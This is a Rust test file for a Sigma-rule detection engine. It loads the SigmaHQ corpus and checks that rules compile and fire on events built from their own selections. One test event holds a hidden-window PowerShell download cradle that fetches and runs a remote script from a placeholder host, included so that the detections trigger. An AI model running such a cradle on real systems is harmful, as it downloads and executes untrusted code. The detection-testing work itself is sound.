//! Loads the whole SigmaHQ rule corpus (from the shared reference folder beside
//! the repository) and checks that every rule loads, then runs the loaded set
//! over a few events to make sure the compiled matcher works at that scale.

use std::path::{Path, PathBuf};

use bulwark_detect::{CompileOptions, Event, Outcome, RuleSet};

/// The corpus in `../shared`; the test fails, loudly, when it is missing.
fn corpus_dir() -> PathBuf {
    bulwark_testkit::shared("reference/sigma/sigmahq-rules")
}

fn collect(dir: &Path, out: &mut Vec<(String, String)>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    let mut entries: Vec<_> = entries.flatten().collect();
    entries.sort_by_key(|e| e.path());
    for e in entries {
        let p = e.path();
        if p.is_dir() {
            collect(&p, out);
        } else if p.extension().is_some_and(|x| x == "yml" || x == "yaml") {
            if let Ok(text) = std::fs::read_to_string(&p) {
                out.push((p.display().to_string(), text));
            }
        }
    }
}

#[test]
fn every_sigmahq_rule_loads() {
    let dir = corpus_dir();
    let mut sources = Vec::new();
    collect(&dir, &mut sources);
    assert!(sources.len() > 3000, "found {} rule files", sources.len());
    let (set, reports) = RuleSet::load(&sources, CompileOptions::ecs());
    let rejected: Vec<_> = reports.iter().filter(|r| !r.is_loaded()).collect();
    for r in &rejected {
        if let Outcome::Rejected(why) = &r.outcome {
            eprintln!("REJECTED {}: {why}", r.path);
        }
    }
    eprintln!(
        "SigmaHQ: {} files, {} documents, {} loaded, {} rejected",
        sources.len(),
        reports.len(),
        reports.len() - rejected.len(),
        rejected.len()
    );
    let warned = reports.iter().filter(|r| !r.warnings.is_empty()).count();
    eprintln!("SigmaHQ: {warned} rules with warnings");
    assert!(rejected.is_empty(), "{} rules rejected", rejected.len());

    let mut engine = set.compile();
    let ev = |v: serde_json::Value| Event::from_json(v, None).unwrap();
    // A PowerShell download cradle: several SigmaHQ process-creation rules fire.
    let hits = engine.process(&ev(serde_json::json!({
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
        "ParentImage": "C:\\Windows\\System32\\cmd.exe"
    })));
    assert!(!hits.is_empty(), "expected SigmaHQ detections");
    // A benign event must stay quiet for nearly all rules.
    let hits = engine.process(&ev(serde_json::json!({"message": "hello"})));
    assert!(hits.len() < 5, "{hits:?}");
}

/// Turns a Sigma value pattern into a concrete string it matches.
fn realize(text: &str, windash: bool) -> String {
    use bulwark_detect::pattern::{Pattern, Tok};
    let mut p = Pattern::parse(text);
    if windash {
        p.windash();
    }
    p.toks
        .iter()
        .map(|t| match t {
            Tok::Lit(c) => c.to_string(),
            Tok::Any => "xx".to_string(),
            Tok::One => "Q".to_string(),
            Tok::Dash => "/".to_string(),
        })
        .collect()
}

/// For every SigmaHQ rule whose condition is a single selection of plain string
/// tests, builds an event from the selection and checks the rule fires on it:
/// the loader and compiler agree with the rules' intent at corpus scale.
#[test]
fn sigmahq_rules_fire_on_events_built_from_their_selections() {
    use bulwark_detect::ast::{Condition, Document, Modifier, RuleValue, Search};
    use bulwark_detect::parse::parse_file;

    let dir = corpus_dir();
    let mut sources = Vec::new();
    collect(&dir, &mut sources);
    let (set, _) = RuleSet::load(&sources, CompileOptions::default());
    let mut engine = set.compile();
    let (mut tried, mut missed) = (0, Vec::new());
    for (path, text) in &sources {
        let Ok(docs) = parse_file(text) else { continue };
        for doc in docs.into_iter().flatten() {
            let Document::Detection(rule) = doc else {
                continue;
            };
            let [Condition::Ref(name)] = rule.detection.conditions.as_slice() else {
                continue;
            };
            let Some((_, Search::AllOf(items))) =
                rule.detection.searches.iter().find(|(n, _)| n == name)
            else {
                continue;
            };
            let mut ev = serde_json::Map::new();
            let mut usable = true;
            for item in items {
                let Some(field) = &item.field else {
                    usable = false;
                    break;
                };
                let simple = item.modifiers.iter().all(|m| {
                    matches!(
                        m,
                        Modifier::Contains
                            | Modifier::StartsWith
                            | Modifier::EndsWith
                            | Modifier::All
                            | Modifier::Windash
                    )
                });
                if !simple || ev.contains_key(field) {
                    usable = false;
                    break;
                }
                let texts: Vec<String> = item
                    .values
                    .iter()
                    .filter_map(|v| match v {
                        RuleValue::Str(s) => Some(s.clone()),
                        RuleValue::Int(i) => Some(i.to_string()),
                        _ => None,
                    })
                    .collect();
                if texts.len() != item.values.len() || texts.is_empty() {
                    usable = false;
                    break;
                }
                let windash = item.modifiers.contains(&Modifier::Windash);
                let contains = item.modifiers.contains(&Modifier::Contains);
                let all = item.modifiers.contains(&Modifier::All);
                let value = if all {
                    texts
                        .iter()
                        .map(|t| realize(t, windash))
                        .collect::<Vec<_>>()
                        .join(" ")
                } else {
                    realize(&texts[0], windash)
                };
                let value = if contains {
                    format!("pre {value} post")
                } else if item.modifiers.contains(&Modifier::StartsWith) {
                    format!("{value} tail")
                } else if item.modifiers.contains(&Modifier::EndsWith) {
                    format!("C:\\head{value}")
                } else {
                    value
                };
                // Sigma matching is case-insensitive by default.
                ev.insert(
                    field.clone(),
                    serde_json::Value::String(value.to_uppercase()),
                );
            }
            if !usable || ev.is_empty() {
                continue;
            }
            tried += 1;
            let id = rule
                .meta
                .id
                .clone()
                .unwrap_or_else(|| rule.meta.title.clone());
            let hits = engine.process(&Event::new(ev, None));
            if !hits.iter().any(|d| d.rule_id == id) {
                missed.push(format!("{path}: {}", rule.meta.title));
            }
        }
    }
    eprintln!(
        "SigmaHQ self-check: {tried} rules tried, {} missed",
        missed.len()
    );
    assert!(tried > 1000, "only {tried} rules were simple enough");
    assert!(missed.is_empty(), "{missed:#?}");
}
